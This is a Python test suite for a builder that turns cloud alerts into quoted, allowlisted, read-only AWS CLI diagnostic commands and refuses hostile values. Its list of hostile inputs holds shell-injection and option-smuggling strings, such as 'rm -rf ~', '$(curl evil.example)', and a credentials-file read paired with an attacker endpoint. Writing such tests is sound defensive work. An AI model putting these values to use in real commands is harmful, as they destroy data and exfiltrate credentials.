"""The command builder: allowlisted operations, options from botocore's model, values validated and quoted.

And the rules that use it: a hostile name from an alert yields no command and a line under Unknowns, and every
command the rules produce parses with the AWS CLI's own parser into exactly the intended options.
"""

from __future__ import annotations

import re
import shlex
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from functions.analyze.rules import analyze_with_rules
from functions.shared.aws_commands import (
    _SECRET_OPERATION_NAME,
    _SECRET_OPERATIONS,
    ValueKind,
    allowlisted_operations,
    build_command,
    check_command,
    flag,
    kind_problem,
    opt,
    query_problem,
    shown,
)
from functions.shared.models import Alert, ContextSection, Fact, GatheredContext, ResourceRef
from functions.shared.untrusted_text import clean_text
from tests.support.awscli_parse import assert_cli_parses_as_intended, awscli_operations, parse_with_awscli

AT = datetime(2026, 3, 1, 0, 20, tzinfo=UTC)  # just after a month boundary, on purpose

# Values an alert can carry where a name belongs: each must yield no command.
HOSTILE = [
    "ImageProcessor --function-name=file://.aws/credentials --endpoint https://evil.example",
    "ImageProcessor --endpoint-url=https://evil.example",
    "x --debug",
    "Image'Processor",
    'Image"Processor',
    "Image Processor",
    "Image;rm -rf ~",
    "Image$(curl evil.example)",
    "Image`id`",
    "Image\nProcessor",
    "Image\tProcessor",
    "Image\\Processor",
    clean_text("invoice\u202efdp"),  # the cleaner shows the bidi override as a visible `\u202e`
    "invoice\u202efdp",
    "Ímage",
    "Image\u00a0Processor",
    "-Image",
    "--region=eu-west-1",
    "file://x",
    "",
    "a" * 65,
]


def lambda_alert(name: str, *, region: str = "us-east-1", occurred_at: datetime | None = AT, **details: Any) -> Alert:
    return Alert(
        source="cloudwatch_alarm",
        alert_type="alarm",
        severity="critical",
        title="ALARM: Errors",
        account_id="123456789012",
        region=region,
        occurred_at=occurred_at,
        resource=ResourceRef(type="AWS::Lambda::Function", name=name),
        details={"alarm_name": "errors-alarm", "state": "ALARM", "metric_name": "Errors", **details},
        dedup_key="alarm-1",
    )


def section(name: str, *facts: tuple[str, str, Any]) -> ContextSection:
    return ContextSection(
        name=name,  # type: ignore[arg-type]
        status="ok",
        facts=[Fact(key=k, text=t, value=v) for k, t, v in facts],
    )


# --- Building ------------------------------------------------------------------------------------------------------


def test_a_command_is_built_from_the_operation_model_with_quoted_values() -> None:
    # When
    built = build_command(
        "cloudwatch",
        "describe-alarm-history",
        opt("--alarm-name", "High CPU (prod) O'Brien", ValueKind.ALARM_NAME),
        opt("--history-item-type", "StateUpdate"),
        max_items=10,
        region="eu-west-1",
    )

    # Then
    assert built.command == (
        "aws cloudwatch describe-alarm-history --alarm-name 'High CPU (prod) O'\"'\"'Brien' "
        "--history-item-type StateUpdate --max-items 10 --region eu-west-1"
    )
    assert shlex.split(built.command) == list(built.tokens)
    assert built.unknown is None


def test_flags_and_lists_follow_the_model() -> None:
    built = build_command(
        "ec2",
        "describe-instance-status",
        opt("--instance-ids", ["i-0a1b2c3d4e5f60718", "i-0c1d2e3f"], ValueKind.EC2_INSTANCE),
        flag("--include-all-instances"),
        flag("--dry-run", on=False),
    )
    assert built.command == (
        "aws ec2 describe-instance-status --instance-ids i-0a1b2c3d4e5f60718 i-0c1d2e3f --include-all-instances "
        "--no-dry-run"
    )


def test_an_operation_that_prints_secrets_gets_its_secret_free_query() -> None:
    # When
    built = build_command(
        "lambda", "get-function-configuration", opt("--function-name", "api", ValueKind.LAMBDA_FUNCTION)
    )

    # Then
    assert built.command is not None
    tokens = shlex.split(built.command)
    assert tokens[tokens.index("--query") + 1].startswith("{FunctionName: FunctionName")
    assert "Environment" not in built.command


def test_a_query_that_would_print_secrets_is_refused() -> None:
    built = build_command(
        "lambda",
        "get-function-configuration",
        opt("--function-name", "api", ValueKind.LAMBDA_FUNCTION),
        query="Environment.Variables",
    )
    assert built.command is None
    assert built.unknown is not None and "Environment" in built.unknown


@pytest.mark.parametrize(
    ("service", "operation", "options", "problem"),
    [
        ("lambda", "delete-function", [opt("--function-name", "x", ValueKind.LAMBDA_FUNCTION)], "not on the allow"),
        ("secretsmanager", "get-secret-value", [opt("--secret-id", "x")], "not on the allowlist"),
        ("lambda", "get-policy", [opt("--endpoint-url", "https://x")], "has no --endpoint-url"),
        ("lambda", "get-policy", [opt("--cli-input-json", "{}")], "has no --cli-input-json"),
        ("lambda", "get-policy", [opt("--functionname", "x")], "has no --functionname"),
        ("lambda", "get-policy", [flag("--function-name")], "takes a value"),
        ("ec2", "describe-instance-status", [opt("--include-all-instances", "yes")], "takes flag value"),
    ],
)
def test_the_builder_refuses_what_the_model_does_not_have(
    service: str, operation: str, options: list[Any], problem: str
) -> None:
    built = build_command(service, operation, *options)
    assert built.command is None
    assert built.unknown is not None and problem in built.unknown


@pytest.mark.parametrize("value", HOSTILE, ids=[shown(v, 30) for v in HOSTILE])
@pytest.mark.parametrize(
    ("kind", "option"),
    [
        (ValueKind.LAMBDA_FUNCTION, "--function-name"),
        (ValueKind.REGION, "--region"),
        (ValueKind.EC2_INSTANCE, "--instance-id"),
    ],
)
def test_a_hostile_value_yields_no_command_and_an_unknowns_line(value: str, kind: ValueKind, option: str) -> None:
    # When
    if kind is ValueKind.REGION:
        built = build_command("lambda", "get-account-settings", region=value)
    elif kind is ValueKind.EC2_INSTANCE:
        built = build_command("ec2", "get-console-output", opt(option, value, kind))
    else:
        built = build_command("lambda", "get-policy", opt(option, value, kind))

    # Then
    assert built.command is None
    assert built.unknown is not None
    assert built.unknown.startswith(f"No diagnostic command for {kind.noun} '")
    assert f": not a valid {kind.description}" in built.unknown
    # The value is shown escaped and shortened: nothing invisible, no line break, bounded
    assert built.unknown.isprintable()
    assert len(built.unknown) < 220


@pytest.mark.parametrize("value", [v for v in HOSTILE if v and "'" not in v and '"' not in v and " " not in v])
def test_an_alarm_name_may_hold_spaces_and_quotes_but_nothing_the_cli_would_misread(value: str) -> None:
    # Alarm names are free text: quoting makes spaces and quotes safe, so only what quoting cannot fix is refused.
    built = build_command("cloudwatch", "describe-alarm-history", opt("--alarm-name", value, ValueKind.ALARM_NAME))
    if built.command is not None:
        assert shlex.split(built.command) == list(built.tokens)
        assert check_command(built.command).canonical == built.command
        assert not kind_problem(value, ValueKind.ALARM_NAME)


def test_the_unknowns_line_reads_as_the_issue_asks() -> None:
    built = build_command("lambda", "get-policy", opt("--function-name", "Image'Processor", ValueKind.LAMBDA_FUNCTION))
    assert (
        built.unknown == "No diagnostic command for function name 'Image'Processor': not a valid Lambda function name"
    )


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("ImageProcessor", ValueKind.LAMBDA_FUNCTION),
        ("ImageProcessor:prod", ValueKind.LAMBDA_FUNCTION),
        ("arn:aws:lambda:us-east-1:123456789012:function:ImageProcessor", ValueKind.LAMBDA_FUNCTION),
        ("i-0a1b2c3d4e5f60718", ValueKind.EC2_INSTANCE),
        ("i-0c1d2e3f", ValueKind.EC2_INSTANCE),
        ("us-gov-west-1", ValueKind.REGION),
        ("ap-southeast-5", ValueKind.REGION),
        ("/aws/lambda/ImageProcessor", ValueKind.LOG_GROUP),
        ("acme-photo-uploads", ValueKind.BUCKET),
        ("arn:aws:health:us-east-1::event/EC2/AWS_EC2_X/AWS_EC2_X_1", ValueKind.ARN),
        ("123456789012", ValueKind.ACCOUNT_ID),
        ("2026-02-28", ValueKind.DATE),
        ("High CPU (prod) — O'Brien", ValueKind.ALARM_NAME),
    ],
)
def test_valid_values_of_each_kind_pass(value: str, kind: ValueKind) -> None:
    assert kind_problem(value, kind) == ""


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("i-XYZ", ValueKind.EC2_INSTANCE),
        ("i-0a1b2c3d4e", ValueKind.EC2_INSTANCE),
        ("us-east-1; id", ValueKind.REGION),
        ("US-EAST-1", ValueKind.REGION),
        ("/aws/lambda/x y", ValueKind.LOG_GROUP),
        ("Bucket_Name", ValueKind.BUCKET),
        ("1234", ValueKind.ACCOUNT_ID),
        ("2026-02-30", ValueKind.DATE),
        ("a" * 256, ValueKind.ALARM_NAME),
        ("x" * 2_000, ValueKind.ALARM_NAME),
        ("arn:aws:lambda:us-east-1:123456789012:function:x --debug", ValueKind.ARN),
    ],
)
def test_invalid_values_of_each_kind_fail(value: str, kind: ValueKind) -> None:
    assert kind_problem(value, kind).startswith(f"not a valid {kind.description}")


# --- Properties ---------------------------------------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80))
def test_any_alarm_name_gives_no_command_or_exactly_the_intended_tokens(name: str) -> None:
    # When
    built = build_command(
        "cloudwatch", "describe-alarm-history", opt("--alarm-name", name, ValueKind.ALARM_NAME), region="us-east-1"
    )

    # Then it is None, or re-parses to exactly what was meant, and the validator gives it back unchanged
    intended = ["aws", "cloudwatch", "describe-alarm-history", "--alarm-name", name, "--region", "us-east-1"]
    if built.command is None:
        assert built.unknown
    else:
        assert shlex.split(built.command) == intended
        assert check_command(built.command).canonical == built.command


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=80), st.sampled_from([ValueKind.LAMBDA_FUNCTION, ValueKind.LOG_GROUP, ValueKind.PATTERN]))
def test_any_text_of_any_kind_gives_no_command_or_exactly_the_intended_tokens(value: str, kind: ValueKind) -> None:
    if kind is ValueKind.LAMBDA_FUNCTION:
        built = build_command("lambda", "get-policy", opt("--function-name", value, kind))
        intended = ["aws", "lambda", "get-policy", "--function-name", value]
    else:
        option = "--log-group-name" if kind is ValueKind.LOG_GROUP else "--filter-pattern"
        built = build_command("logs", "filter-log-events", opt(option, value, kind))
        intended = ["aws", "logs", "filter-log-events", option, value]
    assert built.command is None or shlex.split(built.command) == intended


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=120))
def test_any_text_is_refused_or_posted_in_a_canonical_form_that_is_still_allowed(text: str) -> None:
    verdict = check_command("aws lambda get-policy --function-name " + text)
    if verdict.allowed:
        assert verdict.canonical is not None
        again = check_command(verdict.canonical)
        assert again.allowed and again.canonical == verdict.canonical
        assert not re.search(r"fileb?://|https?://", verdict.canonical, re.IGNORECASE)


# --- The allowlist ------------------------------------------------------------------------------------------------


def test_no_allowlisted_operation_is_one_that_reveals_secrets() -> None:
    for service, operation in allowlisted_operations():
        assert (service, operation) not in _SECRET_OPERATIONS
        assert not _SECRET_OPERATION_NAME.search(operation), operation
        assert operation.startswith(("describe-", "get-", "list-", "lookup-", "filter-", "head-", "start-query", "ls"))


def test_every_allowlisted_operation_exists_in_botocore_and_in_the_aws_cli() -> None:
    # botocore: the builder and the check can load every operation's options
    for service, operation in allowlisted_operations():
        verdict = check_command(f"aws {service} {operation}")
        assert "not a read-only operation" not in verdict.reason, (service, operation)
    # The AWS CLI v1 (the oldest CLI engineers still run) has every one of them
    pairs = allowlisted_operations()
    assert all(awscli_operations(pairs)), [p for p, ok in zip(pairs, awscli_operations(pairs), strict=True) if not ok]


def test_secret_checks_of_queries() -> None:
    assert query_problem("Functions[].FunctionName", "lambda", "list-functions") == ""
    assert query_problem("Functions[?Runtime=='python3.12'].FunctionName", "lambda", "list-functions") == ""
    assert query_problem("length(Functions)", "lambda", "list-functions") == ""
    assert "Environment" in query_problem("Functions[?Environment.Variables.KEY=='x'].Name", "lambda", "list-functions")
    assert "Environment" in query_problem("Functions[0]", "lambda", "list-functions")
    assert "Environment" in query_problem("max_by(Functions, &CodeSize)", "lambda", "list-functions")
    assert "Environment" in query_problem("values(@)", "lambda", "get-function-configuration")
    assert "Environment" in query_problem("[Runtime, @]", "lambda", "get-function-configuration")
    assert "Environment" in query_problem("Runtime || @", "lambda", "get-function-configuration")
    assert query_problem("Timeout", "lambda", "get-function-configuration") == ""
    assert query_problem("Reservations[].Instances[].InstanceId", "ec2", "describe-instances") == ""


# --- The rules ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", HOSTILE, ids=[shown(v, 30) for v in HOSTILE])
def test_a_hostile_function_name_in_an_alert_yields_no_command_and_says_so(name: str) -> None:
    # Given a Lambda alarm whose function name came from an attacker (an app's own error report, a dimension)
    alert = lambda_alert(name)

    # When
    analysis = analyze_with_rules(alert, GatheredContext())

    # Then no command holds the name or any part an attacker could use, and Unknowns says why
    for command in analysis.diagnostics:
        assert check_command(command).canonical == command
        assert "--function-name" not in command and "/aws/lambda/" not in command
        assert not re.search(r"fileb?://|https?://|--endpoint|--debug", command)
    if name:
        assert any(u.startswith("No diagnostic command for function name") for u in analysis.unknowns)


@pytest.mark.parametrize("region", ["us-east-1 --endpoint https://evil.example", "eu-west-1'", "us-east-1\n"])
def test_a_hostile_region_yields_no_regional_command(region: str) -> None:
    analysis = analyze_with_rules(lambda_alert("ImageProcessor", region=region), GatheredContext())
    assert all("--region" not in c for c in analysis.diagnostics)
    assert "evil" not in " ".join(analysis.diagnostics)
    assert any(u.startswith("No diagnostic command for region") for u in analysis.unknowns)


def test_an_alarm_name_with_a_quote_is_quoted_not_closed() -> None:
    # Given an alarm whose name holds a quote and would-be options
    name = "errors' --endpoint-url https://evil.example '"
    alert = lambda_alert("ImageProcessor", alarm_name=name)

    # When
    analysis = analyze_with_rules(alert, GatheredContext())

    # Then the name is refused (it holds a URL): no alarm-history command at all
    assert not [c for c in analysis.diagnostics if "describe-alarm-history" in c]
    assert any(u.startswith("No diagnostic command for alarm name") for u in analysis.unknowns)

    # And a name with only a quote is one shell word
    quoted = analyze_with_rules(lambda_alert("ImageProcessor", alarm_name="O'Brien's errors"), GatheredContext())
    (history,) = [c for c in quoted.diagnostics if "describe-alarm-history" in c]
    tokens = shlex.split(history)
    assert tokens[tokens.index("--alarm-name") + 1] == "O'Brien's errors"


def test_log_and_cost_windows_are_absolute_and_come_from_the_alerts_time() -> None:
    # Given a Lambda alert and a budget alert at a fixed time (just after a month boundary)
    lambda_analysis = analyze_with_rules(lambda_alert("ImageProcessor"), GatheredContext())
    budget = Alert(
        source="budget",
        alert_type="budget_actual",
        severity="critical",
        title="Budget exceeded",
        account_id="123456789012",
        occurred_at=AT,
        dedup_key="b-1",
    )
    budget_analysis = analyze_with_rules(budget, GatheredContext())

    # Then the windows are epoch milliseconds and ISO dates around that time, and no shell is involved
    (logs,) = [c for c in lambda_analysis.diagnostics if "filter-log-events" in c]
    tokens = shlex.split(logs)
    start, end = int(tokens[tokens.index("--start-time") + 1]), int(tokens[tokens.index("--end-time") + 1])
    assert start == int((AT - timedelta(hours=1)).timestamp() * 1000)
    assert end == int((AT + timedelta(minutes=15)).timestamp() * 1000)
    (cost,) = [c for c in budget_analysis.diagnostics if "get-cost-and-usage" in c]
    assert "Start=2026-02-15,End=2026-03-02" in cost
    assert not any("date" in c.split("--")[0] or "$(" in c for c in lambda_analysis.diagnostics)


def test_without_any_time_the_log_command_needs_none_and_now_is_used_when_given() -> None:
    alert = lambda_alert("ImageProcessor", occurred_at=None)

    timeless = analyze_with_rules(alert, GatheredContext())
    assert any("describe-log-streams" in c and "--order-by LastEventTime" in c for c in timeless.diagnostics)

    anchored = analyze_with_rules(alert, GatheredContext(), now=AT)
    assert any(f"--end-time {int((AT + timedelta(minutes=15)).timestamp() * 1000)}" in c for c in anchored.diagnostics)


def _rule_inputs() -> list[tuple[Alert, GatheredContext]]:
    """Alerts and contexts that fire every detector that suggests commands."""
    ec2 = Alert(
        source="cloudwatch_alarm",
        alert_type="alarm",
        severity="critical",
        title="ALARM: CPU",
        account_id="123456789012",
        region="eu-west-1",
        occurred_at=AT,
        resource=ResourceRef(type="AWS::EC2::Instance", name="i-0a1b2c3d4e5f60718"),
        details={"alarm_name": "cpu 'high'", "state": "ALARM", "metric_name": "CPUUtilization"},
        dedup_key="a-2",
    )
    status = ec2.model_copy(
        update={
            "details": ec2.details.model_copy(
                update={"metric_name": "StatusCheckFailed_System", "alarm_name": "status"}
            )
        }
    )
    health = Alert(
        source="health",
        alert_type="AWS_EC2_INSTANCE_RETIREMENT_SCHEDULED",
        severity="warning",
        title="Retirement",
        occurred_at=AT,
        resource=ResourceRef(type="AWS::EC2::Instance", name="i-0a1b2c3d4e5f60718"),
        details={"event_arn": "arn:aws:health:eu-west-1::event/EC2/AWS_EC2_X/AWS_EC2_X_abc"},
        dedup_key="h-1",
    )
    budget = Alert(
        source="budget",
        alert_type="budget_actual",
        severity="critical",
        title="Budget",
        account_id="123456789012",
        occurred_at=AT,
        dedup_key="b-1",
    )
    return [
        (
            lambda_alert("OrderIngest", metric_name="Throttles"),
            GatheredContext(compute=section("compute", ("compute.alarm_metric", "Throttles: peak 700 vs 0", None))),
        ),
        (
            lambda_alert("CheckoutService"),
            GatheredContext(
                compute=section(
                    "compute",
                    ("compute.alarm_metric", "Alarm metric Errors (Sum/5m): peak 240 vs baseline 0", None),
                    ("compute.recent_change", "Recent change: CheckoutService updated 27 min ago", 27),
                )
            ),
        ),
        (
            budget,
            GatheredContext(
                cost=section("cost", ("cost.top_mover", "Top mover AWS Lambda: $48.00 (+300%)", 300)),
                compute=section("compute", ("compute.lambda_mover", "Lambda ImageProcessor: 1,382,400 (+300%)", 300)),
            ),
        ),
        (ec2, GatheredContext(compute=section("compute", ("compute.alarm_metric", "CPU: peak 97 vs 20", None)))),
        (status, GatheredContext(compute=section("compute", ("compute.alarm_metric", "Status: peak 1", None)))),
        (health, GatheredContext()),
        (lambda_alert("arn:aws:lambda:eu-west-1:123456789012:function:Api:live"), GatheredContext()),
    ]


def test_every_command_the_rules_produce_parses_with_the_aws_cli_as_intended() -> None:
    # Given every command the rules suggest for alerts that fire each detector
    commands: list[str] = []
    for alert, context in _rule_inputs():
        analysis = analyze_with_rules(alert, context)
        assert not [u for u in analysis.unknowns if u.startswith("No diagnostic command")], analysis.unknowns
        commands += analysis.diagnostics
    commands = list(dict.fromkeys(commands))
    operations = {tuple(shlex.split(c)[1:3]) for c in commands}
    assert len(operations) >= 12, operations

    # When the AWS CLI parses them
    results = parse_with_awscli(commands)

    # Then each parses into exactly the intended options, with no forbidden global and nothing read from a file
    for command, result in zip(commands, results, strict=True):
        assert_cli_parses_as_intended(result, command)
